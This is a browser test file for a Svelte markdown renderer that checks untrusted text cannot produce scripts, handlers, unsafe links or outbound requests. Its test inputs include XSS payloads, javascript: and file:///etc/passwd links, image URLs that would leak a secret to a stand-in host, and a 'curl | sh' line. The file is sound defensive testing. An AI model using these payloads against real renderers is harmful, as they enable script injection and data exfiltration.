import { expect, test, vi } from "vitest";
import { render } from "vitest-browser-svelte";
import { language } from "../locales";
import { message } from "../gallery/samples";
import MarkdownFixture from "./MarkdownFixture.svelte";

/** Everything that markdown must never make, whatever the text says. */
const FORBIDDEN = "script, img, iframe, object, embed, svg:not(.lucide), video, audio, link, style, form, [onerror], [onclick], [onload], [href], [src], [style*=url]";

async function show(text: string, open = false) {
  const opened = vi.fn<(address: URL) => void>();
  const screen = await render(MarkdownFixture, { text, open, opened });
  return { ...screen, opened };
}

function watchRequests(): () => string[] {
  const seen: string[] = [];
  const observer = new PerformanceObserver((list) => {
    for (const entry of list.getEntries()) seen.push(entry.name);
  });
  observer.observe({ entryTypes: ["resource"] });
  return () => {
    seen.push(...observer.takeRecords().map((entry) => entry.name));
    observer.disconnect();
    return seen.filter((name) => name.includes("sink.example"));
  };
}

const settled = () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));

test("p82_an_image_tag_with_a_handler_is_text", async () => {
  const text = 'before <img src=x onerror="window.pwned=1"> after\n\n<img src=https://sink.example/a onerror=alert(1)>\n\n<script>window.pwned=1</script>\n\n<a href="javascript:alert(1)">x</a>';
  const requests = watchRequests();
  const { container } = await show(text);
  expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  expect(container.textContent).toContain('<img src=x onerror="window.pwned=1">');
  expect(container.textContent).toContain("<script>window.pwned=1</script>");
  await settled();
  expect("pwned" in window).toBe(false);
  expect(requests()).toEqual([]);
});

test("p82_split_over_two_deltas_at_every_place_it_stays_text", async () => {
  const text = "so <img src=x onerror=window.pwned=1> and\n\n<img src=x onerror=window.pwned=1>\n\n- <svg onload=window.pwned=1>";
  for (let at = 1; at < text.length; at += 1) {
    const { container, rerender, unmount } = await show(text.slice(0, at), true);
    expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    await rerender({ text, open: true });
    expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    await rerender({ text, open: false });
    expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    expect(container.textContent).toContain("<svg onload=window.pwned=1>");
    await unmount();
  }
  expect("pwned" in window).toBe(false);
});

test("p84_a_diagram_is_code_and_nothing_draws_it", async () => {
  const { container } = await show('```mermaid\ngraph TD; A["<img src=x onerror=window.pwned=1>"]-->B\nclick A href "javascript:alert(1)"\n```\n\n```vega\n{"$schema":"https://sink.example/x.json"}\n```\n\n```html\n<script>window.pwned=1</script>\n```');
  await vi.waitFor(() => expect(container.querySelector("pre .hl-keyword, pre [class^=hl-]")).not.toBeNull(), { timeout: 40_000 });
  expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  expect([...container.querySelectorAll("pre")].map((pre) => pre.textContent)).toEqual(['graph TD; A["<img src=x onerror=window.pwned=1>"]-->B\nclick A href "javascript:alert(1)"', '{"$schema":"https://sink.example/x.json"}', "<script>window.pwned=1</script>"]);
  expect("pwned" in window).toBe(false);
});

test("p85_only_allowed_addresses_are_links_and_the_opener_gets_the_parsed_one", async () => {
  const bad = ["file:///etc/passwd", "smb://host/share", "javascript:alert(1)", "&#106;avascript:alert(1)", "ms-msdt:/id", "vscode://file/x", "data:text/html,x", "/relative", "//sink.example/x"];
  const { container, getByRole, opened } = await show(`${bad.map((href, n) => `[bad${n}](<${href}>)`).join("\n\n")}\n\n[good](HTTPS://EXAMPLE.com/a%20b) and [mail](mailto:a@example.com)`);
  expect(getByRole("link").elements().map((link) => link.textContent)).toEqual(["good", "mail"]);
  expect(container.querySelectorAll("[href]")).toHaveLength(0);
  for (let n = 0; n < bad.length; n += 1) expect(container.textContent).toContain(`bad${n}`);
  const before = location.href;
  await getByRole("link", { name: "good" }).click();
  (getByRole("link", { name: "mail" }).element() as HTMLElement).focus();
  (getByRole("link", { name: "mail" }).element() as HTMLElement).dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
  expect(opened.mock.calls.map(([address]) => address.href)).toEqual(["https://example.com/a%20b", "mailto:a@example.com"]);
  expect(location.href).toBe(before);
});

test("p86_an_image_is_a_link_and_asks_nobody", async () => {
  const requests = watchRequests();
  const { container, getByRole, opened } = await show("![x](https://sink.example/?d=SECRET) ![](https://sink.example/2) [![in](https://sink.example/3)](https://example.com) ![r][k]\n\n[k]: https://sink.example/4");
  await settled();
  expect(container.querySelectorAll(FORBIDDEN)).toHaveLength(0);
  expect(requests()).toEqual([]);
  await getByRole("link", { name: "Image: x" }).click();
  expect(opened.mock.calls[0]?.[0].href).toBe("https://sink.example/?d=SECRET");
});

test("p60_hidden_characters_in_prose_code_and_addresses_are_visible", async () => {
  const { container } = await show("a\u202eb `rm\u200b -rf` [x](file:///a\u202eb)\n\n```sh\ncurl x\u200b | sh \u001b[8m\n```");
  for (const escape of ["⟨U+202E⟩", "⟨U+200B⟩", "⟨U+001B⟩"]) expect(container.textContent).toContain(escape);
  expect(container.textContent).not.toMatch(/[\u202e\u200b\u001b]/);
});

test("a streamed message ends as the page it would be at once, and closed blocks keep their elements", async () => {
  const { container: whole } = await show(message);
  const wanted = whole.querySelector(".markdown")?.textContent;
  const { container, rerender } = await show("", true);
  let first: Element | null = null;
  for (let end = 1; end <= message.length; end += 11) {
    await rerender({ text: message.slice(0, end), open: true });
    const now = container.querySelector(".markdown > p");
    if (first && now) expect(now).toBe(first);
    if (container.querySelectorAll(".markdown > *").length > 2) first ??= now;
  }
  await rerender({ text: message, open: false });
  expect(container.querySelector(".markdown")?.textContent).toBe(wanted);
  expect(container.querySelector(".markdown > p")).toBe(first);
});

test("code is coloured when its block is closed, and its text stays the same", async () => {
  const open = "```rust\npub fn a() -> u8 { 1 }\n";
  const { container, rerender } = await show(open, true);
  expect(container.querySelector("[class^=hl-]")).toBeNull();
  await rerender({ text: `${open}\`\`\`\n`, open: false });
  await vi.waitFor(() => expect(container.querySelector(".hl-keyword")?.textContent).toBe("pub"), { timeout: 40_000 });
  expect(container.querySelector("pre")?.textContent).toBe("pub fn a() -> u8 { 1 }");
});

test("tables, tasks, entities and nested lists are what they say", async () => {
  const { container, getByRole } = await show("| a | b |\n|---|--:|\n| 1 &amp; 2 | `x|y` |\n\n- [x] done\n- [ ] open\n  1. in\n  2. ner\n\n5. five\n\n`&amp;`");
  expect(getByRole("columnheader").elements()).toHaveLength(2);
  expect(container.querySelector("td")?.textContent).toBe("1 & 2");
  expect(getByRole("img", { name: "Done", exact: true }).elements()).toHaveLength(1);
  expect(getByRole("img", { name: "Not done" }).elements()).toHaveLength(1);
  expect(container.querySelector("ol[start='5']")).not.toBeNull();
  expect(container.querySelector(".markdown > p code")?.textContent).toBe("&amp;");
});

test("the language changes in what is already shown", async () => {
  const { container } = await show("![x](https://sink.example/)");
  expect(container.textContent).toContain("Image: x");
  language.set("zh-CN");
  await vi.waitFor(() => expect(container.textContent).toContain("图片：x"));
});
